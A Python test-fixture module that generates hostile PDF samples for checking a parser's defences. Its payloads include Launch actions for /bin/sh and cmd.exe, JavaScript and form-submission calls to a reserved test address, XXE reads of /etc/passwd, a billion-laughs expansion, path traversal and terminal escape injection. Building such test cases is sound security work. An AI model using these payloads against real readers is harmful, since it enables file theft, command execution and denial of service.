"""Documents that want something from outside: programs, addresses, files."""

from .pdf import PAGE_TEXT, pdf, stream

ADDRESS = "http://192.0.2.1/yusuan"  # TEST-NET-1 (RFC 5737): nobody is there.


def opening(action):
    return lambda: pdf(catalog=f"/OpenAction << /Type /Action {action} >>", page=f"/AA << /O << /Type /Action {action} >> >>")


def annotated(entries):
    return lambda: pdf(page=f"/Annots [<< /Type /Annot /Rect [0 0 99 99] {entries} >>]")


FILES = {
    "launch.pdf": opening("/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >>"), "address.pdf": opening(f"/S /URI /URI ({ADDRESS})"),
    "script.pdf": opening("/S /JavaScript /JS (app.launchURL\\('http://192.0.2.1'\\); while\\(1\\);)"), "other-document.pdf": opening("/S /GoToR /F (/etc/passwd) /D [0 /Fit]"),
    "form-sent.pdf": opening(f"/S /SubmitForm /F << /FS /URL /F ({ADDRESS}) >>"), "data-imported.pdf": opening("/S /ImportData /F (/etc/passwd)"),
    "script-by-name.pdf": lambda: pdf(catalog="/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(1\\);) >>] >> >>"),
    "content-elsewhere.pdf": lambda: pdf(b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"),
    "content-at-address.pdf": lambda: pdf(f"<< /Length 0 /F << /FS /URL /F ({ADDRESS}) >> >>\nstream\n\nendstream".encode()),
    "form-elsewhere.pdf": lambda: pdf(b"/X Do " + PAGE_TEXT, {10: stream(b"", "/Subtype /Form /BBox [0 0 9 9] /Ref << /F (/etc/passwd) /Page 0 >>")}, resources="/XObject << /X 10 0 R >>"),
    "font-elsewhere.pdf": lambda: pdf(objects={10: "<< /Type /FontDescriptor /FontName /A /Flags 4 /FontFile2 11 0 R >>", 11: stream(b"", "/F (/etc/passwd)")},
                                      font="<< /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor 10 0 R >>"),
    "picture-elsewhere.pdf": lambda: pdf(b"/I Do " + PAGE_TEXT, {10: stream(b"", f"/Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F ({ADDRESS}) >>")},
                                         resources="/XObject << /I 10 0 R >>"),
    "profile.pdf": lambda: pdf(b"/C cs 1 scn " + PAGE_TEXT, {10: stream(b"garbage", "/N 1")}, resources="/ColorSpace << /C [/ICCBased 10 0 R] >>"),
    "files-within.pdf": lambda: pdf(objects={10: "<< /Type /Filespec /F (../../../tmp/out) /EF << /F 11 0 R >> >>", 11: stream(b"x")}, catalog="/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>"),
    "xfa.pdf": lambda: pdf(objects={10: stream(b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')}, catalog="/AcroForm << /Fields [] /XFA 10 0 R >>"),
    "xfa-laughs.pdf": lambda: pdf(objects={10: stream(b"<!DOCTYPE a [<!ENTITY a 'x'>" + b"".join(b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9)) + b"]><a>&j;</a>")},
                                  catalog="/AcroForm << /Fields [] /XFA [(template) 10 0 R] >>"),
    "metadata-entity.pdf": lambda: pdf(objects={10: stream(b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://192.0.2.1/">]><a>&x;</a>', "/Type /Metadata /Subtype /XML")}, catalog="/Metadata 10 0 R"),
    "link.pdf": annotated(f"/Subtype /Link /A << /S /URI /URI ({ADDRESS}) >>"), "movie.pdf": annotated(f"/Subtype /Movie /Movie << /F ({ADDRESS}) >> /A true"),
    "sound.pdf": annotated("/Subtype /Sound /Sound << /F (/dev/zero) >>"), "media.pdf": annotated("/Subtype /RichMedia /RichMediaSettings << /Activation << /Condition /PO >> >>"),
    "field.pdf": lambda: pdf(objects={10: "<< /FT /Tx /T (a) /V (x) /Kids [10 0 R] /Parent 10 0 R /AA << /C << /S /JavaScript /JS (x) >> >> >>"},
                             catalog="/AcroForm << /Fields [10 0 R] /NeedAppearances true >>", page="/Annots [10 0 R]"),
    "title.pdf": lambda: pdf(objects={10: "<< /Title (\\033]0;x\\007\\033[2J) /Author <FEFF202E0061> /Producer (" + "p" * 100_000 + ") >>"}, trailer="/Root 1 0 R /Info 10 0 R"),
}
